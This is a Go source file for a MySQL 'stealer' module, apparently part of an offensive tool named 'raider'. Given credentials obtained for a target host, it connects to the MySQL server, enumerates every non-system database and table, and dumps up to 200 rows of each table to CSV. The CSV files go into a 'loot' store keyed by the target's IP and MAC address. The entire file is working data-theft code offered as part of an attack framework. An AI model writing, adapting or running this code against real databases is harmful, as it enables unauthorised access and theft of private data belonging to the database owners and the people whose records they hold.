package steal

import (
	"context"
	"database/sql"
	"fmt"
	"strings"

	_ "github.com/go-sql-driver/mysql"

	"raider/internal/core/loot"
	"raider/internal/core/model"
	"raider/internal/pkg/logger"
)

// 每张表最多导出的行数，防止对大库全量拖取
const mysqlMaxRowsPerTable = 200

// 系统库不导出
var mysqlSystemSchemas = map[string]struct{}{
	"information_schema": {},
	"performance_schema": {},
	"mysql":              {},
	"sys":                {},
}

// MySQLStealer MySQL 数据窃取器：枚举业务库并逐表导出限量行
type MySQLStealer struct {
	files  *loot.FileStore
	limits Limits
}

func NewMySQLStealer(files *loot.FileStore, limits Limits) *MySQLStealer {
	return &MySQLStealer{files: files, limits: limits}
}

func (s *MySQLStealer) Protocol() string {
	return "mysql"
}

func (s *MySQLStealer) Steal(ctx context.Context, target *model.Target, port int, cred model.CredentialRecord) (int, error) {
	dsn := fmt.Sprintf("%s:%s@tcp(%s:%d)/?timeout=5s&readTimeout=30s", cred.Username, cred.Password, target.IP, port)
	db, err := sql.Open("mysql", dsn)
	if err != nil {
		return 0, fmt.Errorf("mysql open failed: %w", err)
	}
	defer db.Close()
	db.SetMaxOpenConns(1)

	if err := db.PingContext(ctx); err != nil {
		return 0, fmt.Errorf("mysql connect failed: %w", err)
	}

	schemas, err := s.listSchemas(ctx, db)
	if err != nil {
		return 0, err
	}

	grabbed := 0
	for _, schema := range schemas {
		tables, err := s.listTables(ctx, db, schema)
		if err != nil {
			logger.Debugf("mysql schema %s on %s: %v", schema, target.IP, err)
			continue
		}
		for _, table := range tables {
			select {
			case <-ctx.Done():
				return grabbed, ctx.Err()
			default:
			}
			if s.limits.MaxFilesPerHost > 0 && grabbed >= s.limits.MaxFilesPerHost {
				return grabbed, nil
			}
			dump, err := s.dumpTable(ctx, db, schema, table)
			if err != nil {
				logger.Debugf("mysql dump %s.%s on %s: %v", schema, table, target.IP, err)
				continue
			}
			if !s.limits.SizeOK(int64(len(dump))) {
				continue
			}
			name := fmt.Sprintf("%s/%s.csv", schema, table)
			local, err := s.files.Save("mysql", target.MAC, target.IP, name, strings.NewReader(dump))
			if err != nil {
				logger.Warnf("mysql loot save failed for %s: %v", name, err)
				continue
			}
			logger.Infof("mysql loot %s.%s -> %s", schema, table, local)
			grabbed++
		}
	}
	return grabbed, nil
}

func (s *MySQLStealer) listSchemas(ctx context.Context, db *sql.DB) ([]string, error) {
	rows, err := db.QueryContext(ctx, "SHOW DATABASES")
	if err != nil {
		return nil, fmt.Errorf("mysql schema enum failed: %w", err)
	}
	defer rows.Close()

	var schemas []string
	for rows.Next() {
		var name string
		if err := rows.Scan(&name); err != nil {
			return nil, err
		}
		if _, ok := mysqlSystemSchemas[strings.ToLower(name)]; ok {
			continue
		}
		schemas = append(schemas, name)
	}
	return schemas, rows.Err()
}

func (s *MySQLStealer) listTables(ctx context.Context, db *sql.DB, schema string) ([]string, error) {
	rows, err := db.QueryContext(ctx,
		"SELECT table_name FROM information_schema.tables WHERE table_schema = ? AND table_type = 'BASE TABLE'", schema)
	if err != nil {
		return nil, err
	}
	defer rows.Close()

	var tables []string
	for rows.Next() {
		var name string
		if err := rows.Scan(&name); err != nil {
			return nil, err
		}
		tables = append(tables, name)
	}
	return tables, rows.Err()
}

// dumpTable 导出一张表的前 N 行为 CSV 文本
// 标识符来自 information_schema，反引号包裹后拼接是安全的
func (s *MySQLStealer) dumpTable(ctx context.Context, db *sql.DB, schema, table string) (string, error) {
	query := fmt.Sprintf("SELECT * FROM `%s`.`%s` LIMIT %d",
		strings.ReplaceAll(schema, "`", "``"), strings.ReplaceAll(table, "`", "``"), mysqlMaxRowsPerTable)
	rows, err := db.QueryContext(ctx, query)
	if err != nil {
		return "", err
	}
	defer rows.Close()

	cols, err := rows.Columns()
	if err != nil {
		return "", err
	}

	var sb strings.Builder
	sb.WriteString(strings.Join(cols, ","))
	sb.WriteByte('\n')

	values := make([]sql.RawBytes, len(cols))
	scanArgs := make([]any, len(cols))
	for i := range values {
		scanArgs[i] = &values[i]
	}
	for rows.Next() {
		if err := rows.Scan(scanArgs...); err != nil {
			return "", err
		}
		fields := make([]string, len(values))
		for i, v := range values {
			if v == nil {
				fields[i] = "NULL"
				continue
			}
			fields[i] = csvQuote(string(v))
		}
		sb.WriteString(strings.Join(fields, ","))
		sb.WriteByte('\n')
	}
	return sb.String(), rows.Err()
}

func csvQuote(s string) string {
	if strings.ContainsAny(s, ",\"\n") {
		return `"` + strings.ReplaceAll(s, `"`, `""`) + `"`
	}
	return s
}
